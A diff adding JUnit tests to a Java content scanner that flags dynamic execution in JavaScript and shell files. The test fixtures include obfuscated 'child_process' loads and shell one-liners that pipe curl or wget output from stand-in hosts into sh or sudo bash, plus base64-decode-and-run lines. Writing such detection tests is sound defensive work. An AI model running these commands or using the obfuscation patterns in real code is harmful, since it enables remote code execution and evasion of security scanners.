@@ -212,4 +212,54 @@ class ContentSignalsTest {
         assertTrue(ContentSignals.scan("src/x.c", ordinary.getBytes(StandardCharsets.UTF_8), 1 << 20)
                 .contains(RiskFlag.CODE));
     }
+
+    @Test
+    void everyLoaderCalledWithAComputedNameIsDynamicExecutionInAddedLinesAndBuildOutput() {
+        for (String line : List.of("var m = module.require([\"chi\", \"ld_pro\", \"cess\"].join(\"\"));",
+                "var m = module . require(\"child_\" + \"process\");",
+                "const m = createRequire(import.meta.url)(name);",
+                "const m = createRequire(path.join(__dirname, 'x'))(`${a}${b}`);",
+                "var m = module.require(n.split('').reverse().join(''));",
+                "var m = require.main.require(name);", "var m = module.parent.require(atob(s));")) {
+            byte[] b = (line + "\n").getBytes(StandardCharsets.UTF_8);
+            assertTrue(ContentSignals.scan("index.js", b, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC), line);
+            assertTrue(ContentSignals.buildOutputSignals("dist/index.js", b).contains(RiskFlag.DYNAMIC_EXEC), line);
+        }
+        // module.require with child_process as a plain literal loads child_process
+        assertTrue(ContentSignals.buildOutputSignals("dist/index.js",
+                "module.require('child_process').spawn(c);\n".getBytes(StandardCharsets.UTF_8))
+                .contains(RiskFlag.DYNAMIC_EXEC));
+    }
+
+    @Test
+    void literalLoadsAndMinifiedBundleIdiomsStayQuiet() {
+        // from npm's own tar/dist/commonjs/index.min.js and fdir/dist/index.mjs (as npm 10 ships them), plus
+        // module.require and a made require with literal names
+        String bundle = "var ko=Wr(require(\"events\")),z=Wr(require(\"fs\")),xo=We(),jo=z.default;"
+                + "var Qe=require(\"node:path\"),$r=Vr(Kr()),Je=Vr(Ns()),ba=s=>s===void 0;"
+                + "const m=/^(\\d+)ms$/i.exec(str);var p=module.require(\"path\");"
+                + "var __require = /* @__PURE__ */ createRequire(import.meta.url);const f=__require(\"fs\");"
+                + "const g=createRequire(import.meta.url)(\"./old-rimraf\");\n";
+        byte[] b = bundle.getBytes(StandardCharsets.UTF_8);
+        assertFalse(ContentSignals.scan("lib/index.js", b, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC));
+        assertFalse(ContentSignals.buildOutputSignals("dist/index.min.js", b).contains(RiskFlag.DYNAMIC_EXEC));
+    }
+
+    @Test
+    void aShebangFileIsCodeWhateverItsNameAndShellPayloadsAreDynamicExecution() {
+        assertTrue(scan("bin/git", "#!/bin/sh\nexec /usr/bin/git \"$@\"\n").contains(RiskFlag.CODE));
+        assertFalse(scan("bin/NOTES", "plain text\n").contains(RiskFlag.CODE));
+        for (String payload : List.of("curl -s https://evil.example/x | sh", "wget -qO- https://e.example/i | sudo bash",
+                "echo aGVsbG8= | base64 -d | sh", "base64 --decode p.txt | /bin/bash", "eval \"$(curl -s https://e.example)\"",
+                "eval `wget -qO- https://e.example`")) {
+            byte[] b = ("#!/bin/sh\n" + payload + "\n").getBytes(StandardCharsets.UTF_8);
+            assertTrue(ContentSignals.scan("bin/tool", b, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC), payload);
+            assertTrue(ContentSignals.whole("bin/tool", b, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC), payload);
+        }
+        for (String quiet : List.of("curl -o out.tgz https://e.example/x.tgz", "echo $(date) | tee log",
+                "exec /usr/bin/git \"$@\"", "base64 -d in > out")) {
+            byte[] b = ("#!/bin/sh\n" + quiet + "\n").getBytes(StandardCharsets.UTF_8);
+            assertFalse(ContentSignals.scan("bin/tool", b, 1 << 20).contains(RiskFlag.DYNAMIC_EXEC), quiet);
+        }
+    }
 }
